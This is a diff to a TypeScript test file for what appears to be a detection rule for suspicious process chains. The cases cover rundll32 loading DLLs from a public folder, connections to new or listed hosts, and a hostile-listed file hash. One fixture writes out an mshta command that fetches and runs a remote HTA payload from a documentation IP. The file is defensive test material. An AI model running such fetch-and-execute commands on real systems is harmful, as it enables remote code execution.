@@ -1,5 +1,6 @@
 import { anEvent } from "../../../../test/support/events.ts";
-import { type ChainCase, connect, file, INSIDE, load, OUTSIDE, PUBLIC, S32, start } from "./story.ts";
+import { keyOf, kindKey } from "../../../baseline/keys.ts";
+import { type ChainCase, connect, file, hostile, INSIDE, load, OUTSIDE, PUBLIC, past, S32, start } from "./story.ts";
 
 const called = (destinationHost: string) =>
   anEvent("networkConnection", 4, {
@@ -10,6 +11,10 @@ const called = (destinationHost: string) =>
   });
 const run = (path: string) => start(10, "R", "rundll32.exe", `rundll32 ${path},Go`, "P", "cmd.exe");
 const begun = start(0, "R", "rundll32.exe", `rundll32 ${PUBLIC}a.dll,Go`, "P", "cmd.exe");
+
+const HASH = "a".repeat(64);
+/** What a fleet knows that runs rundll32, and logs connections and libraries. */
+const KNOWN = [keyOf("binary", "windows/rundll32"), kindKey("destination"), kindKey("loaded")];
 
 /** Cases of what arrived and was then run, and of hosts. */
 export const ARRIVALS: readonly ChainCase[] = [
@@ -33,8 +38,33 @@ export const ARRIVALS: readonly ChainCase[] = [
     silent: [begun, connect(4, "R", "rundll32.exe", INSIDE)],
   },
   {
+    chain: "arrivals/new-host",
+    history: past(...KNOWN, keyOf("destination", "windows/rundll32", "example.net")),
+    fires: [begun, called("drop.example.org")],
+    silent: [begun, called("updates.example.net")],
+  },
+  {
+    chain: "arrivals/new-library",
+    history: past(...KNOWN, keyOf("loaded", "windows/rundll32", "c:\\users\\<user>\\tool.dll")),
+    fires: [begun, load(4, "R", "rundll32.exe", `${PUBLIC}other.dll`)],
+    silent: [begun, load(4, "R", "rundll32.exe", `${PUBLIC}tool.dll`)],
+  },
+  {
     chain: "arrivals/listed-host",
+    site: hostile(".example.invalid"),
     fires: [begun, called("drop.example.invalid")],
     silent: [begun, called("updates.example.net")],
+  },
+  {
+    chain: "arrivals/listed-payload",
+    site: hostile("198.51.100.0/24"),
+    fires: [start(0, "R", "mshta.exe", "mshta http://198.51.100.9/a.hta", "P", "cmd.exe")],
+    silent: [start(0, "R", "mshta.exe", "mshta http://203.0.113.9/a.hta", "P", "cmd.exe")],
+  },
+  {
+    chain: "arrivals/listed-file",
+    site: hostile(HASH),
+    fires: [begun, load(4, "R", "rundll32.exe", `${PUBLIC}a.dll`, true, `MD5=00,SHA256=${HASH.toUpperCase()}`)],
+    silent: [begun, load(4, "R", "rundll32.exe", `${PUBLIC}a.dll`, true, `SHA256=${HASH.replace("a", "b")}`)],
   },
 ];
